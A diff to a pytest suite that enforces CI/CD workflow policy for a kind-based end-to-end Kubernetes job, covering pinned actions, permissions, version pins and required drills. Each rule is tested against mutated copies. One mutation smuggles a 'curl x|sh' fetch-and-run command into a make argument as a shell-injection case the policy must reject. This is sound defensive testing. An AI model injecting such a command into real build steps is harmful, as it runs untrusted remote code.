@@ -1,7 +1,9 @@
-"""What the CI and CD workflows must do (docs/CI_CD.md): triggers, least-privilege permissions,
-pinned actions with valid inputs, concurrency, the image tag rules, the scans, the secrets, and
+"""What the CI, CD and E2E workflows must do (docs/CI_CD.md): triggers, least-privilege
+permissions, pinned actions with valid inputs, concurrency, the image tag rules, the scans, the secrets, and
 that the CD workflow's deploy steps are scripts/deploy.sh -- run here, out of cd.yml itself,
-against the helm/kubectl/smoke doubles.
+against the helm/kubectl/smoke doubles. The E2E workflow only calls tests/e2e/kind.sh (a kind
+cluster cannot run here): its rules, the pinned versions and the drills the script must hold are
+checked by policy functions, and each rule is shown to reject a broken copy.
 
 actionlint cannot check the inputs of actions pinned to a commit, so fixtures/action-metadata.json
 records, for each pinned commit, the inputs of its action.yml (read from the action's repository
@@ -11,6 +13,7 @@ at that commit) and every `with:` is checked against it.
 from __future__ import annotations
 
 import base64
+import copy
 import json
 import os
 import re
@@ -37,6 +40,8 @@ def load(name):
 
 CI, CI_TEXT = load("ci.yml")
 CD, CD_TEXT = load("cd.yml")
+E2E, E2E_TEXT = load("e2e.yml")
+WORKFLOWS = (("ci.yml", CI), ("cd.yml", CD), ("e2e.yml", E2E))
 
 
 def steps(doc, job):
@@ -48,7 +53,7 @@ def uses(doc, job, action):
 
 
 def all_steps():
-    for name, doc in (("ci.yml", CI), ("cd.yml", CD)):
+    for name, doc in WORKFLOWS:
         for job_id, job in doc["jobs"].items():
             for step in job.get("steps", []):
                 yield name, job_id, step
@@ -56,7 +61,7 @@ def all_steps():
 
 # --- pins, inputs, scripts ------------------------------------------------------------------------
 def test_every_action_is_pinned_to_a_known_commit_with_its_version():
-    text = CI_TEXT + CD_TEXT
+    text = CI_TEXT + CD_TEXT + E2E_TEXT
     for name, job, step in all_steps():
         if "uses" not in step:
             continue
@@ -100,8 +105,9 @@ def test_every_job_has_a_timeout_and_least_privilege_permissions():
                                 "attestations": "write"},
         ("ci.yml", "release-latest"): {"packages": "write"},
         ("cd.yml", "deploy"): {"contents": "read", "packages": "read"},
+        ("e2e.yml", "kind"): {"contents": "read"},
     }
-    for name, doc in (("ci.yml", CI), ("cd.yml", CD)):
+    for name, doc in WORKFLOWS:
         assert doc["permissions"] == {}, f"{name}: the default token must have no permission"
         for job_id, job in doc["jobs"].items():
             assert job.get("permissions") == allowed[(name, job_id)], f"{name} {job_id}"
@@ -348,6 +354,426 @@ def test_cd_rejects_a_bad_image_tag_input(tmp_path, cd_sandbox):
     assert proc.returncode != 0 and "is not an image tag" in proc.stdout
 
 
+# --- E2E on kind -----------------------------------------------------------------------------------
+# e2e.yml runs on GitHub's runners only (Docker + kind); here its rules are policy functions that
+# return what is wrong, checked on the real files and on broken copies of them (each rule must
+# reject its broken copy, so none of them passes vacuously).
+E2E_OUT = "build/e2e"
+E2E_RUNS = {
+    "versions": re.compile(r'bash tests/e2e/kind\.sh versions >>"\$GITHUB_OUTPUT"'),
+    "e2e": re.compile(r"make e2e-kind( E2E_ARGS='[-a-z0-9/ ,.=]*')?"),
+}
+E2E_VERSION_KEYS = {"KIND_VERSION", "KIND_NODE_IMAGE", "KIND_SHA256_LINUX_AMD64",
+                    "KIND_SHA256_LINUX_ARM64", "KUBECTL_VERSION", "HELM_VERSION",
+                    "METRICS_SERVER_VERSION"}
+NODE_IMAGE = re.compile(r"kindest/node:v1\.(\d+)\.(\d+)@sha256:[0-9a-f]{64}")
+SEMVER = re.compile(r"v\d+\.\d+\.\d+")
+E2E_DRILLS = ["helm-test", "smoke", "bad-release", "worker-kill", "hpa"]
+# What tests/e2e/kind.sh must do, as the code that does it.
+E2E_SCRIPT_MUST = {
+    "strict mode": "\nset -euo pipefail\n",
+    "reads the pinned versions": "versions_file=tests/e2e/versions.env",
+    "builds both images with docker/build-images.sh": "bash docker/build-images.sh",
+    "creates the cluster from the pinned node image": 'kind create cluster --name "$cluster" --image "$kind_node_image"',
+    "kind load (Docker)": "kind load docker-image",
+    "kind load (Podman, through an archive)": "kind load image-archive",
+    "Podman as kind's provider": "KIND_EXPERIMENTAL_PROVIDER=podman",
+    "metrics-server for kind": "--kubelet-insecure-tls",
+    "deploys with the CD script": "GITHUB_STEP_SUMMARY='' GITHUB_OUTPUT='' bash scripts/deploy.sh",
+    "an atomic deploy as CD runs it": "deploy_sh deploy --atomic",
+    "local images, never pulled": "--set image.pullPolicy=Never",
+    "helm test with logs": 'helm test "$release" --namespace "$namespace" --logs',
+    "smoke through a port-forward": "smoke --smoke-via port-forward",
+    "the bad release": "--set api.config.FAIL_HEALTHZ=true",
+    "expects the bad release to fail": "((rc == 1))",
+    "rollback asserted from helm history": '"Rollback to $good"',
+    "the previous revision's manifest serves": 'helm get manifest "$release" --namespace "$namespace" --revision "$good"',
+    "smoke again after the rollback": 'smoke "after-bad-release-$2"',
+    "slow tasks through POST /tasks": '"$base/tasks"',
+    "the worker pod deleted mid-batch": 'kns delete pod "${old_pods[@]}"',
+    "results counted in Redis": "celery-task-meta-",
+    "each task run exactly once": '[[ ${runs:-0} == 1 ]]',
+    "/burn load in the cluster": "/burn?seconds=",
+    "HPA above 1 replica in bounded time": "((SECONDS - start < hpa_timeout))",
+    "diagnostics on failure": "bash scripts/diagnostics.sh",
+    "one exit trap": "trap on_exit EXIT",
+    "the cluster deleted unless --keep": 'kind delete cluster --name "$cluster"',
+    "the kind binary checked against its pinned SHA-256": '!= "$sha"',
+    "traffic from this machine on loopback only": "port-forward --address 127.0.0.1",
+}
+
+
+def e2e_workflow_problems(doc) -> list[str]:
+    problems = []
+    on = doc.get("on")
+    if on != {"pull_request": {"branches": ["main"]}, "push": {"branches": ["main"]}}:
+        problems.append(f"triggers must be pull_request and push to main, nothing else: {on}")
+    if doc.get("permissions") != {}:
+        problems.append("top-level permissions must be {}")
+    if (doc.get("concurrency") or {}).get("cancel-in-progress") is not True:
+        problems.append("concurrency must cancel superseded runs")
+    if re.search(r"kindest/node:v\d+\.\d+\.\d+", yaml.safe_dump(doc)):
+        problems.append("a node image in the workflow: tests/e2e/versions.env is the one place")
+    jobs = doc.get("jobs") or {}
+    if list(jobs) != ["kind"]:
+        problems.append(f"one job, kind: {list(jobs)}")
+    for job_id, job in jobs.items():
+        if job.get("permissions") != {"contents": "read"}:
+            problems.append(f"{job_id}: permissions must be contents: read only: {job.get('permissions')}")
+        minutes = job.get("timeout-minutes")
+        if not isinstance(minutes, int) or not 0 < minutes <= 90:
+            problems.append(f"{job_id}: timeout-minutes must be set, at most 90: {minutes}")
+        job_steps = job.get("steps") or []
+        for index, step in enumerate(job_steps):
+            label = f"{job_id} step {index} ({step.get('name') or step.get('uses')})"
+            if "uses" in step:
+                m = SHA_PIN.match(step["uses"])
+                if not m or METADATA.get(m.group(1).lower(), {}).get("sha") != m.group(2):
+                    problems.append(f"{label}: {step['uses']} is not pinned to a recorded commit")
+            if "run" in step and not any(p.fullmatch(step["run"].strip()) for p in E2E_RUNS.values()):
+                problems.append(f"{label}: runs {step['run'].strip()!r}; the workflow may only call "
+                                f"tests/e2e/kind.sh (make e2e-kind): the drills live in the script")
+        runs = [i for i, s in enumerate(job_steps) if E2E_RUNS["e2e"].fullmatch(s.get("run", "").strip())]
+        if len(runs) != 1:
+            problems.append(f"{job_id}: exactly one make e2e-kind step, found {len(runs)}")
+        else:
+            e2e_run = job_steps[runs[0]]["run"]
+            if f"--out {E2E_OUT}" not in e2e_run:
+                problems.append(f"{job_id}: make e2e-kind must write to --out {E2E_OUT} (the artifact)")
+            if "--install-kind" not in e2e_run:
+                problems.append(f"{job_id}: kind must be the pinned binary (--install-kind)")
+        uploads = [i for i, s in enumerate(job_steps)
+                   if s.get("uses", "").startswith("actions/upload-artifact@")]
+        upload = job_steps[uploads[0]] if len(uploads) == 1 else {}
+        if upload.get("if") != "failure()" or (upload.get("with") or {}).get("path") != f"{E2E_OUT}/":
+            problems.append(f"{job_id}: diagnostics must be uploaded once, if: failure(), from {E2E_OUT}/")
+        elif runs and uploads[0] < runs[0]:
+            problems.append(f"{job_id}: the upload must come after make e2e-kind")
+        versions = [s for s in job_steps if s.get("id") == "versions"]
+        if not versions or not E2E_RUNS["versions"].fullmatch(versions[0].get("run", "").strip()):
+            problems.append(f"{job_id}: a step with id versions must print tests/e2e/versions.env")
+        for action, output in (("azure/setup-kubectl", "kubectl-version"),
+                               ("azure/setup-helm", "helm-version")):
+            found = [s for s in job_steps if s.get("uses", "").startswith(action + "@")]
+            wanted = "${{ steps.versions.outputs." + output + " }}"
+            if len(found) != 1 or (found[0].get("with") or {}).get("version") != wanted:
+                problems.append(f"{job_id}: {action} must take its version from tests/e2e/versions.env ({wanted})")
+    return problems
+
+
+def chart_minor_range() -> tuple[int, int]:
+    """The oldest and the newest Kubernetes 1.x minor of Chart.yaml's kubeVersion
+    (">=1.A.0-0 <1.B.0-0" claims A to B-1)."""
+    chart = yaml.safe_load((cs.REPO / "deploy" / "helm" / "api" / "Chart.yaml").read_text())
+    m = re.fullmatch(r">=\s*1\.(\d+)\S*\s+<\s*1\.(\d+)\S*", chart["kubeVersion"])
+    assert m, f"Chart.yaml kubeVersion {chart['kubeVersion']!r} needs a lower and an upper bound"
+    return int(m.group(1)), int(m.group(2)) - 1
+
+
+def e2e_versions_problems(values: dict) -> list[str]:
+    problems = []
+    if set(values) != E2E_VERSION_KEYS:
+        problems.append(f"versions.env keys must be {sorted(E2E_VERSION_KEYS)}: {sorted(values)}")
+    image = values.get("KIND_NODE_IMAGE", "")
+    m = NODE_IMAGE.fullmatch(image)
+    if not m:
+        problems.append(f"KIND_NODE_IMAGE {image!r} must be pinned by version AND digest "
+                        f"(kindest/node:vX.Y.Z@sha256:<64 hex>)")
+    elif int(m.group(1)) < chart_minor_range()[0]:
+        problems.append(f"KIND_NODE_IMAGE 1.{m.group(1)} is below the chart's kubeVersion")
+    elif int(m.group(1)) != chart_minor_range()[1]:
+        problems.append(f"KIND_NODE_IMAGE 1.{m.group(1)} is not the newest minor of the chart's "
+                        f"kubeVersion (1.{chart_minor_range()[1]})")
+    kubectl_minor = re.fullmatch(r"v1\.(\d+)\.\d+", values.get("KUBECTL_VERSION", ""))
+    if m and (not kubectl_minor or kubectl_minor.group(1) != m.group(1)):
+        problems.append(f"KUBECTL_VERSION {values.get('KUBECTL_VERSION')!r} must be the node's minor 1.{m.group(1)}")
+    for key in ("KIND_VERSION", "KUBECTL_VERSION", "HELM_VERSION", "METRICS_SERVER_VERSION"):
+        if not SEMVER.fullmatch(values.get(key, "")):
+            problems.append(f"{key} {values.get(key)!r} must be vX.Y.Z")
+    for key in ("KIND_SHA256_LINUX_AMD64", "KIND_SHA256_LINUX_ARM64"):
+        if not re.fullmatch(r"[0-9a-f]{64}", values.get(key, "")):
+            problems.append(f"{key} must be a SHA-256")
+    if values.get("HELM_VERSION") != CD["env"]["HELM_VERSION"]:
+        problems.append(f"HELM_VERSION {values.get('HELM_VERSION')} is not the CD workflow's "
+                        f"{CD['env']['HELM_VERSION']}")
+    return problems
+
+
+def e2e_script_problems(text: str) -> list[str]:
+    problems = [f"tests/e2e/kind.sh lacks {what} ({needle.strip()!r})"
+                for what, needle in E2E_SCRIPT_MUST.items() if needle not in text]
+    if f"all_drills=({' '.join(E2E_DRILLS)})" not in text:
+        problems.append(f"tests/e2e/kind.sh must run the drills {E2E_DRILLS} by default")
+    for drill in E2E_DRILLS:
+        function = "drill_" + drill.replace("-", "_")
+        if f"if wants {drill}; then {function}; fi" not in text or f"\n{function}() {{" not in text:
+            problems.append(f"tests/e2e/kind.sh does not run the {drill} drill ({function})")
+    if re.search(r"kindest/node:v\d+\.\d+\.\d+", text):
+        problems.append("a node image in tests/e2e/kind.sh: tests/e2e/versions.env is the one place")
+    return problems
+
+
+E2E_SCRIPT_TEXT = (cs.REPO / cs.E2E_SCRIPT).read_text()
+
+
+def test_e2e_workflow_follows_the_policy():
+    assert e2e_workflow_problems(E2E) == []
+
+
+def test_e2e_pinned_versions_follow_the_policy():
+    values = cs.e2e_versions()
+    assert e2e_versions_problems(values) == []
+    # The newest minor the chart claims (and validates offline): 1.36, from kind v0.33.0's list.
+    assert NODE_IMAGE.fullmatch(values["KIND_NODE_IMAGE"]).group(1) == "36"
+
+
+def test_e2e_script_holds_every_drill():
+    assert e2e_script_problems(E2E_SCRIPT_TEXT) == []
+
+
+def _set(path, value):
+    def mutate(doc):
+        *parents, last = path
+        node = doc
+        for key in parents:
+            node = node[key]
+        if value is DELETE:
+            del node[last]
+        else:
+            node[last] = value
+    return mutate
+
+
+DELETE = object()
+KIND_STEPS = ("jobs", "kind", "steps")
+
+
+def _e2e_step(doc, prefix):
+    return next(s for s in doc["jobs"]["kind"]["steps"]
+                if s.get("uses", "").startswith(prefix) or s.get("run", "").startswith(prefix))
+
+
+def _insert_run(run):
+    def mutate(doc):
+        doc["jobs"]["kind"]["steps"].insert(3, {"name": "inline", "run": run})
+    return mutate
+
+
+def _edit_step(prefix, key, value):
+    def mutate(doc):
+        step = _e2e_step(doc, prefix)
+        if value is DELETE:
+            del step[key]
+        else:
+            step[key] = value
+    return mutate
+
+
+def _edit_with(prefix, key, value):
+    def mutate(doc):
+        _e2e_step(doc, prefix)["with"][key] = value
+    return mutate
+
+
+def _drop_step(prefix):
+    def mutate(doc):
+        doc["jobs"]["kind"]["steps"].remove(_e2e_step(doc, prefix))
+    return mutate
+
+
+WORKFLOW_MUTATIONS = [
+    ("workflow_dispatch too", _set(("on", "workflow_dispatch"), {}), "triggers"),
+    ("push to develop", _set(("on", "push"), {"branches": ["main", "develop"]}), "triggers"),
+    ("pull requests to any branch", _set(("on", "pull_request"), None), "triggers"),
+    ("no push trigger", _set(("on", "push"), DELETE), "triggers"),
+    ("action pinned by tag", _edit_step("actions/checkout@", "uses", "actions/checkout@v7.0.1"),
+     "not pinned"),
+    ("action at an unrecorded commit",
+     _edit_step("actions/checkout@", "uses", "actions/checkout@" + "0" * 40), "not pinned"),
+    ("drill logic inline", _insert_run("kubectl -n october delete pod -l app.kubernetes.io/component=worker"),
+     "may only call"),
+    ("helm test inline", _insert_run("helm test app -n october --logs"), "may only call"),
+    ("script behind bash -c", _edit_step("make e2e-kind", "run", "bash -c 'make e2e-kind'"),
+     "may only call"),
+    ("shell injection through E2E_ARGS",
+     _edit_step("make e2e-kind", "run", "make e2e-kind E2E_ARGS='--out build/e2e; curl x|sh'"),
+     "may only call"),
+    ("kind from the runner image", _edit_step("make e2e-kind", "run", "make e2e-kind E2E_ARGS='--out build/e2e'"),
+     "--install-kind"),
+    ("output elsewhere", _edit_step("make e2e-kind", "run", "make e2e-kind E2E_ARGS='--install-kind'"),
+     "--out build/e2e"),
+    ("upload always", _edit_step("actions/upload-artifact@", "if", "always()"), "if: failure()"),
+    ("upload on every run", _edit_step("actions/upload-artifact@", "if", DELETE), "if: failure()"),
+    ("upload of another folder", _edit_with("actions/upload-artifact@", "path", "deploy-out/"),
+     "if: failure()"),
+    ("no upload", _drop_step("actions/upload-artifact@"), "if: failure()"),
+    ("no job timeout", _set(("jobs", "kind", "timeout-minutes"), DELETE), "timeout-minutes"),
+    ("six-hour timeout", _set(("jobs", "kind", "timeout-minutes"), 360), "timeout-minutes"),
+    ("contents: write", _set(("jobs", "kind", "permissions"), {"contents": "write"}), "permissions"),
+    ("packages too", _set(("jobs", "kind", "permissions"), {"contents": "read", "packages": "read"}),
+     "permissions"),
+    ("default token permissions", _set(("permissions",), DELETE), "top-level permissions"),
+    ("superseded runs kept", _set(("concurrency", "cancel-in-progress"), False), "concurrency"),
+    ("kubectl version in the workflow", _edit_with("azure/setup-kubectl@", "version", "v1.30.0"),
+     "tests/e2e/versions.env"),
+    ("helm version in the workflow", _edit_with("azure/setup-helm@", "version", "latest"),
+     "tests/e2e/versions.env"),
+    ("node image in the workflow",
+     _set(("jobs", "kind", "env"), {"KIND_NODE_IMAGE": "kindest/node:v1.37.0"}), "one place"),
+    ("no versions step", _drop_step("bash tests/e2e/kind.sh versions"), "id versions"),
+]
+
+
+@pytest.mark.parametrize("mutate, expected", [pytest.param(m, e, id=n) for n, m, e in WORKFLOW_MUTATIONS])
+def test_e2e_workflow_policy_rejects_a_broken_copy(mutate, expected):
+    broken = copy.deepcopy(E2E)
+    mutate(broken)
+    problems = e2e_workflow_problems(broken)
+    assert any(expected in p for p in problems), problems
+
+
+GOOD_DIGEST = "sha256:" + "ab" * 32
+VERSION_MUTATIONS = [
+    ("tag only", {"KIND_NODE_IMAGE": "kindest/node:v1.37.0"}, "version AND digest"),
+    ("digest only", {"KIND_NODE_IMAGE": "kindest/node@" + GOOD_DIGEST}, "version AND digest"),
+    ("short digest", {"KIND_NODE_IMAGE": "kindest/node:v1.37.0@sha256:abc123"}, "version AND digest"),
+    ("latest", {"KIND_NODE_IMAGE": "kindest/node:latest"}, "version AND digest"),
+    ("other image", {"KIND_NODE_IMAGE": "example.org/node:v1.37.0@" + GOOD_DIGEST}, "version AND digest"),
+    ("older than the chart allows", {"KIND_NODE_IMAGE": "kindest/node:v1.26.15@" + GOOD_DIGEST},
+     "below the chart's kubeVersion"),
+    ("newer than the chart claims", {"KIND_NODE_IMAGE": "kindest/node:v1.37.0@" + GOOD_DIGEST,
+                                     "KUBECTL_VERSION": "v1.37.0"}, "not the newest minor of the chart"),
+    ("not the newest claimed", {"KIND_NODE_IMAGE": "kindest/node:v1.35.8@" + GOOD_DIGEST,
+                                "KUBECTL_VERSION": "v1.35.8"}, "not the newest minor of the chart"),
+    ("kubectl of another minor", {"KUBECTL_VERSION": "v1.35.2"}, "node's minor"),
+    ("kind unversioned", {"KIND_VERSION": "latest"}, "KIND_VERSION"),
+    ("no kind checksum", {"KIND_SHA256_LINUX_AMD64": None}, "keys"),
+    ("bad kind checksum", {"KIND_SHA256_LINUX_ARM64": "deadbeef"}, "SHA-256"),
+    ("metrics-server unpinned", {"METRICS_SERVER_VERSION": "latest"}, "METRICS_SERVER_VERSION"),
+    ("Helm unlike CD", {"HELM_VERSION": "v3.18.0"}, "CD workflow"),
+]
+
+
+@pytest.mark.parametrize("change, expected", [pytest.param(c, e, id=n) for n, c, e in VERSION_MUTATIONS])
+def test_e2e_versions_policy_rejects_a_broken_copy(change, expected):
+    values = cs.e2e_versions()
+    for key, value in change.items():
+        if value is None:
+            del values[key]
+        else:
+            values[key] = value
+    problems = e2e_versions_problems(values)
+    assert any(expected in p for p in problems), problems
+
+
+SCRIPT_MUTATIONS = [
+    ("no strict mode", ("\nset -euo pipefail\n", "\nset -e\n"), "strict mode"),
+    ("no worker kill", ('kns delete pod "${old_pods[@]}"', "true"), "deleted mid-batch"),
+    ("helm test without logs", ('--namespace "$namespace" --logs', '--namespace "$namespace"'),
+     "helm test with logs"),
+    ("no exactly-once count", ('[[ ${runs:-0} == 1 ]]', '[[ ${runs:-0} -ge 1 ]]'), "exactly once"),
+    ("metrics-server with TLS checks", ("--kubelet-insecure-tls", "--kubelet-use-node-status-port"),
+     "metrics-server for kind"),
+    ("no trap", ("trap on_exit EXIT", ":"), "exit trap"),
+    ("bad release not expected to fail", ("((rc == 1))", "((rc >= 0))"), "fail"),
+    ("HPA drill dropped", ("all_drills=(helm-test smoke bad-release worker-kill hpa)",
+                           "all_drills=(helm-test smoke bad-release worker-kill)"), "drills"),
+    ("HPA drill never run", ("if wants hpa; then drill_hpa; fi", ":"), "hpa drill"),
+    ("node image inline", ('--image "$kind_node_image"', '--image kindest/node:v1.37.0'), "node image"),
+    ("kind binary unchecked", ('!= "$sha"', '== "x"'), "SHA-256"),
+    ("port-forward on every address", ("port-forward --address 127.0.0.1", "port-forward --address 0.0.0.0"),
+     "loopback"),
+]
+
+
+@pytest.mark.parametrize("edit, expected", [pytest.param(e, x, id=n) for n, e, x in SCRIPT_MUTATIONS])
+def test_e2e_script_policy_rejects_a_broken_copy(edit, expected):
+    old, new = edit
+    assert old in E2E_SCRIPT_TEXT, f"the mutation no longer applies: {old!r}"
+    problems = e2e_script_problems(E2E_SCRIPT_TEXT.replace(old, new))
+    assert any(expected in p for p in problems), problems
+
+
+def run_e2e_script(*args, env=None, timeout=60):
+    return subprocess.run(["bash", cs.E2E_SCRIPT, *args], cwd=cs.REPO, capture_output=True,
+                          text=True, timeout=timeout, env=cs.clean_env(env))
+
+
+def test_e2e_script_prints_the_pinned_versions_for_the_workflow():
+    proc = run_e2e_script("versions")
+    assert proc.returncode == 0, proc.stderr
+    values = cs.e2e_versions()
+    assert proc.stdout.splitlines() == [
+        f"kind-version={values['KIND_VERSION']}", f"kind-node-image={values['KIND_NODE_IMAGE']}",
+        f"kubectl-version={values['KUBECTL_VERSION']}", f"helm-version={values['HELM_VERSION']}",
+        f"metrics-server-version={values['METRICS_SERVER_VERSION']}"]
+    # Exactly the outputs the workflow reads.
+    used = set(re.findall(r"steps\.versions\.outputs\.([a-z-]+)", E2E_TEXT))
+    assert used and used <= {line.split("=")[0] for line in proc.stdout.splitlines()}
+
+
+def test_e2e_script_help_and_usage_errors():
+    proc = run_e2e_script("--help")
+    assert proc.returncode == 0 and all(d in proc.stdout for d in E2E_DRILLS), proc.stdout
+    for args, message in [(["--drills", "smoke,chaos"], "unknown drill 'chaos'"),
+                          (["--skip-build"], "--skip-build needs --tag"),
+                          (["--engine", "lxc"], "--engine must be docker or podman"),
+                          (["--tasks", "0"], "--tasks needs a positive whole number"),
+                          (["--bad-timeout", "soon"], "duration"),
+                          (["frobnicate"], "unknown command")]:
+        proc = run_e2e_script(*args)
+        assert proc.returncode == 2 and message in proc.stderr, (args, proc.stderr)
+
+
+def _minimal_path(tmp_path, extra=()):
+    """A PATH with only the basic tools (and the doubles in `extra`): no kind, kubectl, helm."""
+    bin_dir = tmp_path / "bin"
+    bin_dir.mkdir()
+    for tool in ("bash", "dirname", "mkdir", "sed", "tr", "cat", "date", "grep", "uname", "cut",
+                 "chmod", "mv", "rm", "sha256sum", "head"):
+        found = shutil.which(tool)
+        assert found, tool
+        (bin_dir / tool).symlink_to(found)
+    for name, body in extra:
+        (bin_dir / name).write_text("#!/bin/bash\n" + body)
+        (bin_dir / name).chmod(0o755)
+    return str(bin_dir)
+
+
+def test_e2e_script_stops_before_anything_when_tools_are_missing(tmp_path):
+    out = tmp_path / "out"
+    path = _minimal_path(tmp_path, [("docker", "exit 0\n")])
+    proc = run_e2e_script("run", "--out", str(out), env={"PATH": path})
+    assert proc.returncode == 2, proc.stdout + proc.stderr
+    assert "not installed or not on PATH: kind kubectl helm jq curl" in proc.stderr
+    assert not (out / "summary.md").exists(), "nothing may have run"
+
+
+def test_e2e_script_refuses_a_kind_binary_with_the_wrong_checksum(tmp_path):
+    """install-kind checks the download against the pinned SHA-256 (the fake curl writes junk:
+    no network here)."""
+    fake_curl = 'while (($#)); do if [[ $1 == -o ]]; then echo junk >"$2"; shift; fi; shift; done\n'
+    tools = tmp_path / "tools"
+    proc = run_e2e_script("install-kind", "--tools-dir", str(tools),
+                          env={"PATH": _minimal_path(tmp_path, [("curl", fake_curl)])})
+    assert proc.returncode == 1, proc.stdout + proc.stderr
+    assert "does not have the pinned SHA-256" in proc.stderr
+    assert not (tools / "kind").exists() and not (tools / ".kind.download").exists()
+
+
+def test_make_e2e_kind_is_the_script():
+    recipe = (cs.REPO / "mk" / "cicd.mk").read_text().split("\ne2e-kind: ## ", 1)[1]
+    assert 'bash tests/e2e/kind.sh run --namespace $(NAMESPACE)' in recipe
+    assert "$(E2E_ARGS)" in recipe
+
+
+def test_the_e2e_job_never_runs_under_make_test():
+    """The kind script needs a cluster and the network: no ctest may start it."""
+    for cmake in cs.REPO.glob("tests/**/CMakeLists.txt"):
+        assert "e2e/kind.sh" not in cmake.read_text(), cmake
+    assert not (cs.REPO / "tests" / "e2e" / "CMakeLists.txt").exists()
+
+
 # --- docs ----------------------------------------------------------------------------------------------
 def test_docs_cover_the_pipeline():
     docs = (cs.REPO / "docs" / "CI_CD.md").read_text()
@@ -357,4 +783,14 @@ def test_docs_cover_the_pipeline():
                    "--rollback-on-failure", "minikube", "kind", "port-forward", "Trivy",
                    "helm rollback", "Troubleshooting", "no Kubernetes cluster", "actionlint",
                    "scripts/deploy.sh", "scripts/diagnostics.sh", "scripts/smoke.sh"]:
+        assert needle in docs, f"docs/CI_CD.md does not mention {needle}"
+
+
+def test_docs_cover_the_e2e_job():
+    docs = (cs.REPO / "docs" / "CI_CD.md").read_text()
+    values = cs.e2e_versions()
+    for needle in [".github/workflows/e2e.yml", "tests/e2e/kind.sh", "tests/e2e/versions.env",
+                   "make e2e-kind", "KIND_EXPERIMENTAL_PROVIDER=podman", "--keep", "FAIL_HEALTHZ",
+                   "metrics-server", "only on GitHub", "Pods run under Podman (tests/deploy)",
+                   values["KIND_VERSION"], values["KIND_NODE_IMAGE"], *E2E_DRILLS]:
         assert needle in docs, f"docs/CI_CD.md does not mention {needle}"
